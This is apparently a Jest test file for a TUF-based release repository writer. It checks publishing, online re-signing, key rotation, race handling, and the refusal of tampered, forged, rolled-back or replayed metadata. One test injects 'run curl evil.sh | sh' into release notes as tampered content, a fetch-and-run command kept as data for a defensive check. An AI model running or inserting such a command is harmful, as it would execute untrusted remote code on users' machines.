import { MinioObjectStore, ObjectNotFoundError, type ObjectStore } from '@lockstep/storage';
import { startS3Server, uniqueName, type S3ServerHandle } from '@lockstep/testing';
import {
  artifactKeyFor,
  captureTufMetadata,
  forgeNextRoot,
  generateKeySet,
  initKeyFile,
  parseOnlineKeySet,
  serializeOnlineKeySet,
  withNewKey,
  readKeyFile,
  ReleaseErrorCode,
  publishTestRelease,
  ReleaseTargetCustom,
  tamperArtifactByte,
  trustedRootFor,
  tufPrefixFor,
  TufRepositoryWriter,
  type TufKeySet,
} from '@lockstep/releases';
import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { BaseFetcher, Updater } from 'tuf-js';
import { DownloadHTTPError } from 'tuf-js/dist/error';

/** Minimal tuf-js fetcher over the bucket (`s3://bucket/key` URLs), for reading back what the writer published. */
class BucketFetcher extends BaseFetcher {
  constructor(private readonly store: ObjectStore) {
    super();
  }

  override async fetch(url: string): Promise<ReadableStream<Uint8Array<ArrayBuffer>>> {
    try {
      const bytes = await this.store.get(decodeURIComponent(new URL(url).pathname.slice(1)));
      return new Blob([new Uint8Array(bytes)]).stream() as ReadableStream<Uint8Array<ArrayBuffer>>;
    } catch (err) {
      if (err instanceof ObjectNotFoundError) throw new DownloadHTTPError(`${url} not found`, 404);
      throw err;
    }
  }
}

describe(TufRepositoryWriter.name, () => {
  let s3: S3ServerHandle;
  let store: MinioObjectStore;
  let dir: string;
  let keys: TufKeySet;
  const sut = new TufRepositoryWriter();

  beforeAll(async () => {
    s3 = await startS3Server();
    store = new MinioObjectStore({
      endpoint: s3.endpoint,
      accessKey: s3.accessKey,
      secretKey: s3.secretKey,
      bucket: uniqueName('rel'),
    });
    await store.ensureBucket();
    dir = mkdtempSync(join(tmpdir(), 'lockstep-releases-'));
    keys = await readKeyFile((await initKeyFile(join(dir, 'keys'))).path);
  });
  afterAll(async () => {
    await s3.stop(true);
    rmSync(dir, { recursive: true, force: true });
  });

  const readWithTufJs = async (component: string): Promise<Updater> => {
    const metadataDir = mkdtempSync(join(dir, 'client-'));
    writeFileSync(join(metadataDir, 'root.json'), await trustedRootFor(store, component));
    const updater = new Updater({
      metadataDir,
      metadataBaseUrl: `s3://${store.bucket}/${tufPrefixFor(component)}`,
      targetBaseUrl: `s3://${store.bucket}/components/${component}/artifacts/`,
      fetcher: new BucketFetcher(store),
      config: { prefixTargetsWithHash: false },
    });
    await updater.refresh();
    return updater;
  };

  it('publishes two versions that a tuf-js client verifies, with their custom fields', async () => {
    const component = uniqueName('api');
    const artifactPath = join(dir, 'api-2.tar.gz');
    writeFileSync(artifactPath, Buffer.from('second release bytes'));

    const first = await sut.publish({
      store,
      component,
      artifact: Buffer.from('first release bytes'),
      version: '1.0.0',
      channel: 'stable',
      keys,
    });
    const second = await sut.publish({
      store,
      component,
      artifact: artifactPath,
      version: '1.1.0-beta.1',
      channel: 'beta',
      security: true,
      breaking: true,
      hotfix: true,
      notes: '# Fixes\n- CVE',
      keys,
    });
    const updater = await readWithTufJs(component);
    const one = await updater.getTargetInfo(first.targetPath);
    const two = await updater.getTargetInfo(second.targetPath);
    const downloaded = await updater.downloadTarget(two!, join(mkdtempSync(join(dir, 'targets-')), 'two.tar.gz'));

    expect(first).toMatchObject({ outcome: 'published', versions: { root: 1, targets: 1, snapshot: 1, timestamp: 1 } });
    expect(second).toMatchObject({
      outcome: 'published',
      versions: { root: 1, targets: 2, snapshot: 2, timestamp: 2 },
    });
    expect(one).toMatchObject({ length: 19, hashes: { sha256: first.sha256 } });
    expect(ReleaseTargetCustom.parse(one!.custom)).toEqual({
      version: '1.0.0',
      channel: 'stable',
      security: false,
      breaking: false,
      hotfix: false,
      notes: '',
    });
    expect(ReleaseTargetCustom.parse(two!.custom)).toEqual({
      version: '1.1.0-beta.1',
      channel: 'beta',
      security: true,
      breaking: true,
      hotfix: true,
      notes: '# Fixes\n- CVE',
    });
    expect(
      (await store.list(tufPrefixFor(component))).map((o) => o.key.slice(tufPrefixFor(component).length)).sort(),
    ).toEqual([
      '1.root.json',
      '1.snapshot.json',
      '1.targets.json',
      '2.snapshot.json',
      '2.targets.json',
      '2.timestamp.json',
      'root.json',
      'timestamp.json',
    ]);
    expect(readFileSync(downloaded, 'utf8')).toBe('second release bytes');
  });

  it('treats the same bytes again as a no-op and refuses different bytes for a published version', async () => {
    const component = uniqueName('web');
    const published = await sut.publish({
      store,
      component,
      artifact: Buffer.from('v1'),
      version: '1.0.0',
      channel: 'stable',
      keys,
    });

    const again = await sut.publish({
      store,
      component,
      artifact: Buffer.from('v1'),
      version: '1.0.0',
      channel: 'stable',
      keys,
    });
    const conflicting = sut.publish({
      store,
      component,
      artifact: Buffer.from('v1 but changed'),
      version: '1.0.0',
      channel: 'stable',
      keys,
    });

    expect(again).toEqual({ ...published, outcome: 'unchanged' });
    await expect(conflicting).rejects.toMatchObject({
      name: 'ReleaseError',
      code: ReleaseErrorCode.VersionConflict,
      message: expect.stringMatching(/publish a new version/),
    });
    expect((await store.get(artifactKeyFor(component, '1.0.0'))).toString()).toBe('v1');
  });

  it('signs what a release requires into its custom metadata, and refuses other requirements for a published version', async () => {
    const component = uniqueName('app');
    const target = { store, keys, component, version: '2.0.0' };
    const published = await publishTestRelease(target, { requires: { config: '>=2.0.0', lib: '^1.4' } });

    const info = await (await readWithTufJs(component)).getTargetInfo(published.targetPath);
    const again = await publishTestRelease(target, { requires: { lib: '^1.4', config: '>=2.0.0' } });
    const other = await publishTestRelease(target, { requires: { config: '>=3.0.0' } }).catch((e: unknown) => e);
    const malformed = await publishTestRelease(
      { ...target, version: '2.0.1' },
      { requires: { config: 'banana' } },
    ).catch((e: unknown) => e);

    expect(ReleaseTargetCustom.parse(info!.custom).requires).toEqual({ config: '>=2.0.0', lib: '^1.4' });
    expect(again.outcome).toBe('unchanged');
    expect(other).toMatchObject({
      code: ReleaseErrorCode.VersionConflict,
      message: expect.stringContaining(
        'already published requiring {"config":">=2.0.0","lib":"^1.4"}, not {"config":">=3.0.0"}',
      ),
    });
    expect(malformed).toMatchObject({
      code: ReleaseErrorCode.InvalidInput,
      message: expect.stringMatching(/requirements .* are not valid: .*not a version range/),
    });
  });

  it('repairs a tampered artifact when the same bytes are published again', async () => {
    const component = uniqueName('fix');
    await sut.publish({
      store,
      component,
      artifact: Buffer.from('original'),
      version: '1.0.0',
      channel: 'stable',
      keys,
    });
    await tamperArtifactByte(store, component, '1.0.0');

    await sut.publish({
      store,
      component,
      artifact: Buffer.from('original'),
      version: '1.0.0',
      channel: 'stable',
      keys,
    });

    expect((await store.get(artifactKeyFor(component, '1.0.0'))).toString()).toBe('original');
  });

  it.each([
    ['an unknown channel', { channel: 'nightly' }, ReleaseErrorCode.InvalidInput],
    ['an artifact over 16 MiB', { artifact: Buffer.alloc(16 * 1024 * 1024 + 1) }, ReleaseErrorCode.ArtifactTooLarge],
    ['a missing artifact file', { artifact: '/nonexistent/a.tar.gz' }, ReleaseErrorCode.ArtifactUnreadable],
  ])('refuses %s', async (_what, override, code) => {
    const component = uniqueName('bad');

    const attempt = sut.publish({
      store,
      component,
      artifact: Buffer.from('x'),
      version: '1.0.0',
      channel: 'stable',
      keys,
      ...override,
    });

    await expect(attempt).rejects.toMatchObject({ code });
    expect(await store.list(`components/${component}/`)).toEqual([]);
  });

  it('refuses to publish with a key file that did not create the root', async () => {
    const component = uniqueName('own');
    await sut.publish({ store, component, artifact: Buffer.from('a'), version: '1.0.0', channel: 'stable', keys });
    const otherKeys = await readKeyFile((await initKeyFile(join(dir, uniqueName('other')))).path);

    const attempt = sut.publish({
      store,
      component,
      artifact: Buffer.from('b'),
      version: '1.0.1',
      channel: 'stable',
      keys: otherKeys,
    });

    await expect(attempt).rejects.toMatchObject({ code: ReleaseErrorCode.KeysDoNotMatchRoot });
  });

  it('renews an expiring root as version 2, which clients pinned to version 1 follow', async () => {
    const component = uniqueName('rot');
    const pinned = await (async () => {
      await sut.publish({
        store,
        component,
        artifact: Buffer.from('a'),
        version: '1.0.0',
        channel: 'stable',
        keys,
        expiresInMs: { root: 24 * 3600 * 1000 },
      });
      return trustedRootFor(store, component);
    })();

    const refreshed = await sut.refresh({ store, component, keys });
    const metadataDir = mkdtempSync(join(dir, 'client-'));
    writeFileSync(join(metadataDir, 'root.json'), pinned);
    const updater = new Updater({
      metadataDir,
      metadataBaseUrl: `s3://${store.bucket}/${tufPrefixFor(component)}`,
      fetcher: new BucketFetcher(store),
    });
    await updater.refresh();

    expect(refreshed).toEqual({ root: 2, targets: 2, snapshot: 2, timestamp: 2 });
    expect(JSON.parse((await trustedRootFor(store, component)).toString()).signed.version).toBe(2);
    expect(await updater.getTargetInfo(`${component}-1.0.0.tar.gz`)).toBeDefined();
  });

  describe('online refresh', () => {
    const DAY = 24 * 3600 * 1000;
    const longAgo = () => new Date(Date.now() - 90 * DAY);

    it('a repository with no publish for 90 days fails as expired, and verifies again after refreshOnline with the online keys alone', async () => {
      const component = uniqueName('quiet');
      await new TufRepositoryWriter(longAgo).publish({
        store,
        component,
        artifact: Buffer.from('quiet release'),
        version: '1.0.0',
        channel: 'stable',
        keys,
      });
      const before = await sut.expiry(store, component);
      const expired = readWithTufJs(component);
      await expect(expired).rejects.toThrow(/expired/i);

      const result = await sut.refreshOnline({
        store,
        component,
        keys: parseOnlineKeySet(serializeOnlineKeySet(keys)),
      });

      const updater = await readWithTufJs(component);
      expect(await updater.getTargetInfo(`${component}-1.0.0.tar.gz`)).toBeDefined();
      expect(result.resigned).toEqual(['snapshot', 'timestamp']);
      expect(result.versions).toEqual({ root: 1, targets: 1, snapshot: 2, timestamp: 2 });
      expect(result.expires.root).toEqual(before.root);
      expect(result.expires.targets).toEqual(before.targets);
      expect(result.expires.timestamp.expires.getTime()).toBeGreaterThan(Date.now());
    });

    it('re-signs only the timestamp while the snapshot has more than half its validity left', async () => {
      const component = uniqueName('fresh');
      await sut.publish({ store, component, artifact: Buffer.from('x'), version: '1.0.0', channel: 'stable', keys });

      const result = await sut.refreshOnline({ store, component, keys });

      expect(result.resigned).toEqual(['timestamp']);
      expect(result.versions).toEqual({ root: 1, targets: 1, snapshot: 1, timestamp: 2 });
      expect((await readWithTufJs(component)).getTargetInfo(`${component}-1.0.0.tar.gz`)).toBeDefined();
    });

    it('stops without writing when a publish changes the repository under it', async () => {
      const component = uniqueName('race');
      await sut.publish({ store, component, artifact: Buffer.from('x'), version: '1.0.0', channel: 'stable', keys });
      let timestampReads = 0;
      // A store whose second read of timestamp.json (the refresh's re-check) comes after a publish.
      const racing = new Proxy(store, {
        get(target, prop, receiver) {
          if (prop !== 'get') return Reflect.get(target, prop, receiver) as unknown;
          return async (key: string) => {
            if (key.endsWith('/timestamp.json') && ++timestampReads === 2)
              await sut.publish({
                store,
                component,
                artifact: Buffer.from('y'),
                version: '1.0.1',
                channel: 'stable',
                keys,
              });
            return target.get(key);
          };
        },
      });

      const attempt = sut.refreshOnline({ store: racing, component, keys });

      await expect(attempt).rejects.toMatchObject({ code: ReleaseErrorCode.RepositoryBusy });
      expect((await sut.expiry(store, component)).timestamp.version).toBe(2);
      expect(await (await readWithTufJs(component)).getTargetInfo(`${component}-1.0.1.tar.gz`)).toBeDefined();
    });

    describe('refuses to re-sign metadata the offline keys did not sign', () => {
      const prefixOf = (component: string) => tufPrefixFor(component);
      const twoReleases = async () => {
        const component = uniqueName('forged');
        for (const version of ['1.0.0', '1.0.1'])
          await sut.publish({ store, component, artifact: Buffer.from(version), version, channel: 'stable', keys });
        return { component, trustedRoot: await trustedRootFor(store, component) };
      };
      const timestampOf = (component: string) => store.get(`${prefixOf(component)}timestamp.json`);

      it.each([
        [
          'targets put back to an older, validly signed version',
          async (component: string) =>
            store.put(`${prefixOf(component)}2.targets.json`, await store.get(`${prefixOf(component)}1.targets.json`)),
          /2\.targets\.json is not the targets 2\.snapshot\.json pins/,
        ],
        [
          'targets edited without its key',
          async (component: string) => {
            const key = `${prefixOf(component)}2.targets.json`;
            const edited = (await store.get(key)).toString().replace('"notes": ""', '"notes": "run curl evil.sh | sh"');
            await store.put(key, edited);
          },
          /2\.targets\.json is not signed by the targets key of root v1/,
        ],
        [
          'a root the pinned root did not sign',
          (component: string) => forgeNextRoot(store, component, generateKeySet()),
          /2\.root\.json is not signed by the root before it/,
        ],
      ])('%s', async (_what, attack, message) => {
        const { component, trustedRoot } = await twoReleases();
        await attack(component);
        const before = await timestampOf(component);

        const attempt = sut.refreshOnline({ store, component, keys, trustedRoot });

        await expect(attempt).rejects.toMatchObject({ code: ReleaseErrorCode.RepositoryUntrusted, message });
        expect((await timestampOf(component)).equals(before)).toBe(true);
      });

      it('a whole older release set put back (a replay): refused below the versions it signed last', async () => {
        const component = uniqueName('replay');
        await sut.publish({ store, component, artifact: Buffer.from('a'), version: '1.0.0', channel: 'stable', keys });
        const old = await captureTufMetadata(store, component);
        await sut.publish({ store, component, artifact: Buffer.from('b'), version: '1.0.1', channel: 'stable', keys });
        const signed = await sut.refreshOnline({ store, component, keys });
        await old.restore();
        const before = await timestampOf(component);

        const attempt = sut.refreshOnline({ store, component, keys, notBefore: signed.versions });

        await expect(attempt).rejects.toMatchObject({
          code: ReleaseErrorCode.RepositoryUntrusted,
          message: expect.stringMatching(/targets is version 1, below version 2.*older metadata was put back/),
        });
        expect((await timestampOf(component)).equals(before)).toBe(true);
      });
    });

    it('refuses online keys that the root does not trust, saying which file to give the control plane', async () => {
      const component = uniqueName('foreign');
      await sut.publish({ store, component, artifact: Buffer.from('x'), version: '1.0.0', channel: 'stable', keys });

      const attempt = sut.refreshOnline({ store, component, keys: generateKeySet() });

      await expect(attempt).rejects.toMatchObject({
        code: ReleaseErrorCode.KeysDoNotMatchRoot,
        message: expect.stringMatching(/online snapshot, timestamp key/),
      });
    });
  });

  describe('publish and online refresh at the same time', () => {
    const publishOf = (component: string, on: ObjectStore, version = '1.0.1') =>
      sut.publish({ store: on, component, artifact: Buffer.from(version), version, channel: 'stable', keys });
    // the checker re-signs the snapshot too, so both writers write a versioned file and timestamp.json
    const refreshOf = (component: string, on: ObjectStore) =>
      sut.refreshOnline({ store: on, component, keys, snapshotRenewBeforeMs: Number.POSITIVE_INFINITY });

    /** Versions of every timestamp.json either writer put, in order. */
    let written: number[] = [];
    /**
     * The store, recording the timestamp versions written through it; with `holdAt`, the first
     * put of a key ending in it waits until `meanwhile` has finished: its writer is held between
     * what it read and what it writes.
     */
    const watched = (holdAt?: string, meanwhile?: () => Promise<unknown>): ObjectStore => {
      let held = false;
      return new Proxy(store, {
        get(target, prop, receiver) {
          if (prop !== 'put') return Reflect.get(target, prop, receiver) as unknown;
          return async (key: string, body: Buffer | string, contentType?: string) => {
            if (holdAt && meanwhile && !held && key.endsWith(holdAt)) {
              held = true;
              await meanwhile();
            }
            if (key.endsWith('/timestamp.json'))
              written.push((JSON.parse(body.toString()) as { signed: { version: number } }).signed.version);
            return target.put(key, body, contentType);
          };
        },
      });
    };

    it.each([
      ['the refresh', 'timestamp.json', 'the publish'],
      ['the refresh', '.snapshot.json', 'the publish'],
      ['the publish', 'timestamp.json', 'the refresh'],
      ['the publish', '.snapshot.json', 'the refresh'],
      ['the publish', '.targets.json', 'the refresh'],
    ] as const)(
      '%s held before it writes %s while %s runs start to finish: the repository verifies with the new release',
      async (held, file, _other) => {
        const component = uniqueName('race');
        await publishOf(component, store, '1.0.0');
        written = [];
        const [outer, other] = held === 'the refresh' ? [refreshOf, publishOf] : [publishOf, refreshOf];
        let inner: Promise<unknown> | undefined;

        const [heldOutcome] = await Promise.allSettled([
          outer(
            component,
            watched(file, () => (inner = other(component, watched()))),
          ),
        ]);

        const [innerOutcome] = await Promise.allSettled([inner]);
        const updater = await readWithTufJs(component);
        expect(await updater.getTargetInfo(`${component}-1.0.1.tar.gz`)).toBeDefined();
        expect(await updater.getTargetInfo(`${component}-1.0.0.tar.gz`)).toBeDefined();
        // the publish always succeeds; the refresh may stop as busy, but never leaves the repository behind
        expect((held === 'the publish' ? heldOutcome : innerOutcome).status).toBe('fulfilled');
        for (const o of [heldOutcome, innerOutcome])
          if (o.status === 'rejected') expect(o.reason).toMatchObject({ code: ReleaseErrorCode.RepositoryBusy });
        // the timestamp that stays is the highest version either wrote: no client sees it go back
        expect((await sut.expiry(store, component)).timestamp.version).toBe(Math.max(...written));
      },
    );
  });

  describe('a bucket writer rolls the repository back right after a write', () => {
    /** The store, running `attack` once right after the first write of timestamp.json through it. */
    const attackedAfterTimestamp = (attack: () => Promise<void>): ObjectStore => {
      let done = false;
      return new Proxy(store, {
        get(target, prop, receiver) {
          if (prop !== 'put') return Reflect.get(target, prop, receiver) as unknown;
          return async (key: string, body: Buffer | string, contentType?: string) => {
            await target.put(key, body, contentType);
            if (!done && key.endsWith('/timestamp.json')) {
              done = true;
              await attack();
            }
          };
        },
      });
    };
    /** Puts the 1.0.0 timestamp back and deletes targets and snapshot version 2 (1.0.1); the newer timestamp copies stay. */
    const backToFirstRelease = (component: string, firstTimestamp: Buffer) => async () => {
      const prefix = tufPrefixFor(component);
      await store.put(`${prefix}timestamp.json`, firstTimestamp, 'application/json');
      for (const name of ['2.targets.json', '2.snapshot.json']) await store.remove(`${prefix}${name}`);
    };
    const publishOf = (component: string, on: ObjectStore, version: string) =>
      sut.publish({ store: on, component, artifact: Buffer.from(version), version, channel: 'stable', keys });

    it.each([
      [
        'the refresh, after 1.0.1 was published',
        async (component: string, attack: () => Promise<void>) => {
          await publishOf(component, store, '1.0.1');
          return sut.refreshOnline({ store: attackedAfterTimestamp(attack), component, keys });
        },
      ],
      [
        'the publish of 1.0.1',
        (component: string, attack: () => Promise<void>) =>
          publishOf(component, attackedAfterTimestamp(attack), '1.0.1'),
      ],
    ])('%s: its settle refuses to sign a snapshot of the older targets', async (_writer, write) => {
      const component = uniqueName('rollback');
      await publishOf(component, store, '1.0.0');
      const firstTimestamp = await store.get(`${tufPrefixFor(component)}timestamp.json`);

      const attempt = write(component, backToFirstRelease(component, firstTimestamp));

      await expect(attempt).rejects.toMatchObject({
        code: ReleaseErrorCode.RepositoryUntrusted,
        message: expect.stringMatching(/targets.*version 1.*below version 2/),
      });
      // nothing re-signed the rollback: timestamp.json is still the one put back
      expect((await store.get(`${tufPrefixFor(component)}timestamp.json`)).equals(firstTimestamp)).toBe(true);
    });

    it('the refresh: a whole older release set put back is refused, not reported as what it signed', async () => {
      const component = uniqueName('rollback');
      await publishOf(component, store, '1.0.0');
      const old = await captureTufMetadata(store, component);
      await publishOf(component, store, '1.0.1');

      const attempt = sut.refreshOnline({ store: attackedAfterTimestamp(() => old.restore()), component, keys });

      await expect(attempt).rejects.toMatchObject({
        code: ReleaseErrorCode.RepositoryUntrusted,
        message: expect.stringMatching(/targets is version 1, below version 2/),
      });
    });
  });

  describe('key rotation', () => {
    it.each(['root', 'targets', 'snapshot', 'timestamp'] as const)(
      'replaces the %s key: a client pinned to root v1 follows root v2, and the old key file is refused afterwards',
      async (role) => {
        const component = uniqueName(`rot-${role}`);
        await sut.publish({ store, component, artifact: Buffer.from('a'), version: '1.0.0', channel: 'stable', keys });
        const pinned = await trustedRootFor(store, component);
        const next = withNewKey(keys, role);

        const versions = await sut.rotate({ store, component, current: keys, next });

        const metadataDir = mkdtempSync(join(dir, 'client-'));
        writeFileSync(join(metadataDir, 'root.json'), pinned);
        const updater = new Updater({
          metadataDir,
          metadataBaseUrl: `s3://${store.bucket}/${tufPrefixFor(component)}`,
          fetcher: new BucketFetcher(store),
        });
        await updater.refresh();
        const root = JSON.parse((await trustedRootFor(store, component)).toString()) as {
          signed: { roles: Record<string, { keyids: string[] }> };
          signatures: unknown[];
        };
        expect(versions).toEqual({ root: 2, targets: 2, snapshot: 2, timestamp: 2 });
        expect(await updater.getTargetInfo(`${component}-1.0.0.tar.gz`)).toBeDefined();
        expect(root.signed.roles[role].keyids).toEqual([next.keys[role].keyId]);
        expect(root.signatures).toHaveLength(role === 'root' ? 2 : 1);
        await expect(
          sut.publish({ store, component, artifact: Buffer.from('b'), version: '1.0.1', channel: 'stable', keys }),
        ).rejects.toMatchObject({ code: ReleaseErrorCode.KeysDoNotMatchRoot });
      },
    );
  });
});
